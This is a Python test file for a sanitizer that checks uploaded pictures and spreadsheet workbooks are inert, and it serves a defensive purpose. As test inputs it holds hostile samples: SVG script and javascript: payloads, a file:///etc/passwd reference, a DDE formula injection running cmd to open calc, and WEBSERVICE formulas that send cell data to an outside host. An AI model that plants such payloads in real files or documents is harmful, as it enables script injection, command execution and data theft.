"""What is carried cannot act; what could is left behind."""

from __future__ import annotations

import pytest
from tests.edges.word import things

from mufakat.edges.limits import USUAL
from mufakat.edges.word.inert import is_plain_workbook, is_quiet_svg, picture_type

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
EMF = b"\x01\0\0\0" + bytes(36) + b" EMF" + bytes(20)
WMF = b"\xd7\xcd\xc6\x9a" + bytes(20)


@pytest.mark.parametrize(
    ("data", "ending"),
    [
        (things.png(), "png"),
        (things.JPEG, "jpeg"),
        (things.GIF, "gif"),
        (things.SVG, "svg"),
        (EMF, "emf"),
        (WMF, "wmf"),
        (b"BM" + bytes(20), "bmp"),
        (b"II*\0" + bytes(20), "tiff"),
    ],
)
def test_a_picture_is_told_by_its_bytes(data: bytes, ending: str) -> None:
    found = picture_type(data)
    assert found is not None
    assert found[0] == ending


@pytest.mark.parametrize(
    "data",
    [b"", b"MZ\x90\0", b"%PDF-1.7", b"\xd0\xcf\x11\xe0", b"PK\x03\x04", b"<html></html>", b"hello"],
)
def test_what_is_no_picture_is_not_taken_for_one(data: bytes) -> None:
    assert picture_type(data) is None


@pytest.mark.parametrize(
    "inner",
    [
        "<script>alert(1)</script>",
        '<rect onload="alert(1)"/>',
        '<image xlink:href="https://example.org/a.png"/>',
        '<image href="file:///etc/passwd"/>',
        '<image href="data:text/html;base64,PHNjcmlwdD4="/>',
        "<foreignObject/>",
        '<a href="javascript:alert(1)"/>',
        '<set attributeName="href" to="https://example.org"/>',
        '<rect style="fill:url(https://example.org/a)"/>',
        '<rect fill="u\\72l(https://example.org/a)"/>',
        "<style>@import 'https://example.org/a.css';</style>",
    ],
)
def test_a_drawing_that_does_more_than_draw_is_no_picture(inner: str) -> None:
    assert not is_quiet_svg(SVG.format(inner).encode())


@pytest.mark.parametrize(
    "inner",
    [
        '<use href="#part"/>',
        '<rect fill="url(#shade)"/>',
        "<style>rect{fill:url('#shade')}</style>",
        '<image href="data:image/png;base64,AAAA"/>',
    ],
)
def test_a_drawing_that_refers_to_itself_is_one(inner: str) -> None:
    assert is_quiet_svg(SVG.format(inner).encode())


def test_a_drawing_with_entities_is_no_picture() -> None:
    assert picture_type(b'<!DOCTYPE svg [<!ENTITY a "b">]>' + things.SVG) is None


def test_a_workbook_of_numbers_is_plain() -> None:
    assert is_plain_workbook(things.workbook(), USUAL)
    assert is_plain_workbook(things.workbook('<c r="A1"><f>SUM(B1:B9)</f><v>4</v></c>'), USUAL)


@pytest.mark.parametrize(
    "hostile",
    [
        things.workbook(xl__vbaProject=""),
        things.workbook(**{"xl__externalLinks__externalLink1.xml": "<externalLink/>"}),
        things.workbook(**{"xl__embeddings__oleObject1.bin": "MZ"}),
        things.workbook(**{"xl__connections.xml": "<connections/>"}),
        things.workbook("<c r=\"A1\"><f>cmd|'/c calc'!A0</f></c>"),
        things.workbook('<c r="A1"><f>WEBSERVICE("https://example.org/"&amp;A2)</f></c>'),
        things.workbook('<c r="A1"><f>_xlfn.WEBSERVICE ("https://example.org")</f></c>'),
        things.workbook(
            **{
                "xl__worksheets___rels__sheet1.xml.rels": '<r><Relationship Id="a" Target="https://'
                'example.org" TargetMode="External"/></r>'
            }
        ),
        things.workbook(
            **{
                "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" ContentType="'
                'application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
            }
        ),
        b"PK\x03\x04 and no more",
    ],
)
def test_a_workbook_that_acts_or_reaches_out_is_not(hostile: bytes) -> None:
    assert not is_plain_workbook(hostile, USUAL)
